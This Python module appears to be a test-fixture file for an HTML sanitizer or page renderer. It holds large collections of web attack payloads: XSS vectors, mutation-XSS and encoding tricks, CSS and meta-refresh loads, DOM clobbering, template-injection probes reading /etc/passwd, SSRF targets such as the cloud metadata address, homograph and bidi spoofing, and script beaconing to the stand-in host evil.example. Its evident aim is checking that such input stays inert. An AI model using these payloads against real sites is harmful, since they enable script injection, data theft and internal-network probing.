"""Pages that want something of who looks at them, a way a page. Each says that it won by asking for evil.example or by a dialog."""

from __future__ import annotations

EVIL = "http://evil.example"
WIN = "alert(document.domain)"

PAGES: dict[str, str] = {
    "svg": f"""<svg xmlns="http://www.w3.org/2000/svg" onload="{WIN}"><script>{WIN}</script><a xlink:href="javascript:{WIN}"><text>甲</text></a>
        <animate attributeName="href" values="javascript:{WIN}"/><image href="{EVIL}/svg.png"/><use href="{EVIL}/x.svg#a"/>
        <foreignObject><iframe src="{EVIL}/fo"></iframe></foreignObject></svg>""",
    "css": f"""<style>@import url({EVIL}/i.css); @import "{EVIL}/j.css"; body{{background:url({EVIL}/b)}} @font-face{{font-family:x;src:url({EVIL}/f)}}
        *{{font-family:x}} p{{width:expression({WIN});behavior:url({EVIL}/h.htc);-moz-binding:url({EVIL}/x.xml#a)}}</style>
        <p style="background:\\75rl({EVIL}/esc);width:expression({WIN})">甲</p><p style="text-align:center;list-style-image:url({EVIL}/l)">乙</p>
        <div style="position:fixed;inset:0;z-index:2147483647;opacity:0.01">丙</div><link rel=stylesheet href="{EVIL}/k.css">""",
    "refresh": f"""<meta http-equiv="refresh" content="0;url={EVIL}/r1"><META HTTP-EQUIV=Refresh CONTENT="0; URL=javascript:{WIN}">
        <meta http-equiv="refresh" content="0;url=data:text/html,<script>{WIN}</script>"><meta http-equiv="Set-Cookie" content="a=b">
        <meta http-equiv="Content-Security-Policy" content="script-src *">""",
    "base": f"""<base href="{EVIL}/base/" target="_top"><a href="next">下一页</a><img src="relative.png"><link rel=icon href=i.ico>""",
    "forms": f"""<form id=f action="{EVIL}/post" method=post><input name=a value=b autofocus onfocus="this.form.submit()"><button formaction="javascript:{WIN}">提交</button>
        <input type=image src="{EVIL}/input.png"><isindex action="{EVIL}/isindex"></form><button form=f type=submit>又</button><select onfocus="{WIN}" autofocus></select>""",
    "frames": f"""<iframe srcdoc="<script>{WIN}</script>"></iframe><iframe src="javascript:{WIN}"></iframe><iframe src="{EVIL}/frame"></iframe>
        <frameset onload="{WIN}"><frame src="{EVIL}/fs"></frameset><portal src="{EVIL}/portal"></portal><fencedframe></fencedframe>""",
    "objects": f"""<object data="{EVIL}/o" type="text/html"></object><object data="data:text/html,<script>{WIN}</script>"></object>
        <embed src="{EVIL}/e.swf"><embed src="javascript:{WIN}"><applet code="{EVIL}/A.class"></applet><param name=movie value="{EVIL}/p">""",
    "data": f"""<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">数据</a><img src="data:text/html,<script>{WIN}</script>">
        <img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
        <img src='data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><script>{WIN}</script></svg>'><img src="data:image/png;base64,!!!!">""",
    "javascript": f"""<a href="javascript:{WIN}">一</a><a href="&#106;&#97;vascript&colon;{WIN}">二</a><a href="java&#9;script:{WIN}">三</a>
        <a href="java\nscript:{WIN}">四</a><a href=" &#14; javascript:{WIN}">五</a><a href="JaVaScRiPt&#58;{WIN}">六</a>
        <a href="vbscript:msgbox(1)">七</a><img src="javascript:{WIN}"><img dynsrc="javascript:{WIN}" lowsrc="javascript:{WIN}">
        <body background="javascript:{WIN}"><a href="blob:{EVIL}/1" download>八</a>""",
    "mutation": f"""<noscript><p title="</noscript><img src=x onerror={WIN}>"></noscript>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={WIN}&gt;"></table></mtext></math>
        <svg></p><style><a id="</style><img src=1 onerror={WIN}>"></svg><template><img src=x onerror={WIN}></template>
        <textarea></textarea><img src=x onerror={WIN}></textarea><xmp></xmp><img src=x onerror={WIN}></xmp><listing>&lt;img src=x onerror={WIN}&gt;</listing>
        <noembed><img title="</noembed><img src=x onerror={WIN}>"></noembed><select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror={WIN}>">
        <p title="`><script>{WIN}</script>">&lt;script&gt;{WIN}&lt;/script&gt;</p><plaintext><img src=x onerror={WIN}>""",
    "bidi": "<h1>\u202e告报度年\u202c \u2066甲\u2069 \u200f\u061c</h1><p>\u202e<script>alert(1)</script>\u202d</p>",
    "homograph": '<a href="http://www.luzhоu.gov.cn/">http://www.luzhоu.gov.cn/</a><img src="http://www.ⅼuzhou.gov.cn/a.png" alt="www.luzhou.gov.cn">',
    "nul": f"<p>甲\x00乙</p><scr\x00ipt>{WIN}</scr\x00ipt><img src=x on\x00error={WIN}><a href='java\x00script:{WIN}'>丙</a>\x01\x0b\x1b\ufffe",
    "templates": """<p>{{ 7 * 7 }} {{ ''.__class__.__mro__[1].__subclasses__() }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %> {{config}} {0.__class__}</p>""",
    "handlers": f"""<img/src=x/onerror={WIN}><img src=x onerror\n=\n{WIN}><body onload={WIN} onhashchange={WIN} onpageshow={WIN}><details open ontoggle={WIN}><summary>甲</summary></details>
        <marquee onstart={WIN}>乙</marquee><p onmouseover={WIN} onanimationstart={WIN} style="animation:x 1s">丙</p><video onerror={WIN}><source src=x></video>
        <td onclick={WIN}>丁</td><p tabindex=0 autofocus onfocus={WIN} contenteditable>戊</p>""",
    "clobbering": """<form id="figure" name="querySelectorAll"><input name="attributes"><img name="body"><a id="content" href="#">甲</a></form>
        <p id="figure">1</p><p class="chosen figure" data-copy>乙</p><img name="navigator" id="document">""",
    "comments": f"""<!--image 0--> <!--image 59--> <!--[if gte IE 4]><script>{WIN}</script><![endif]--><!--><script>{WIN}</script>--> <!-- --!><img src=x onerror={WIN}> -->
        <![CDATA[<script>{WIN}</script>]]><?xml-stylesheet href="{EVIL}/x.xsl"?><!ENTITY x SYSTEM "{EVIL}/ent">&x; &lt;!--image 0--&gt; <p>--&gt;&lt;!--image 1--&gt;</p>""",
    "loading": f"""<link rel=preload as=script href="{EVIL}/pre"><link rel=dns-prefetch href="{EVIL}"><link rel=prefetch href="{EVIL}/pf"><link rel=manifest href="{EVIL}/m">
        <video src="{EVIL}/v" poster="{EVIL}/po" autoplay></video><audio src="{EVIL}/a" autoplay></audio><picture><source srcset="{EVIL}/s"><img srcset="{EVIL}/s2 2x" src="{EVIL}/img.png" alt="图"></picture>
        <track src="{EVIL}/t"><table background="{EVIL}/bg"><tr><td background="{EVIL}/bg2">甲</td></tr></table><a href="{EVIL}" ping="{EVIL}/ping">乙</a><img src="//evil.example/p.png" loading=eager>""",
    "inner": """<img src="http://127.0.0.1:1/admin.png"><img src="/api/v1/reports"><img src="http://169.254.169.254/latest/meta-data"><img src="file:///etc/passwd">
        <iframe src="/en/"></iframe><img src="http://[::1]/a.png"><img src="http://localhost:8765/en/">""",
    "size": "<table><tr><td colspan=999999999 rowspan=65534>甲</td></tr></table>" + "<div>" * 900 + "深" + "</div>" * 900 + "<p title='" + "长" * 200_000 + "'>乙</p>",
    "away": f"""<a href="{EVIL}/top" target="_top">出</a><a href="{EVIL}/blank" target="_blank" rel="opener">出</a><script>top.location='{EVIL}/t'; window.open('{EVIL}/w'); parent.postMessage('x','*');
        fetch('{EVIL}/f'); navigator.sendBeacon('{EVIL}/b'); new WebSocket('ws://evil.example/'); new Image().src='{EVIL}/i'; document.cookie='a=b'; localStorage.x=1</script>""",
}  # fmt: skip

WORDS: dict[str, str] = {
    "markup": "\"><script>alert(1)</script><img src=x onerror=alert(1)>'><!--",
    "template": "{{ 7 * 7 }}{% raw %}{0.__class__}%(x)s${7*7}",
    "bidi": "\u202e告报作工开公息信府政年0202市州泸\u202c",
    "long": "长" * 20_000,
    "url": "javascript:alert(1)//",
    "close": "</title></style></textarea></script><svg onload=alert(1)>",
}
"""What may stand in a title, a heading, an issuer's name, a check's message or an anchor."""
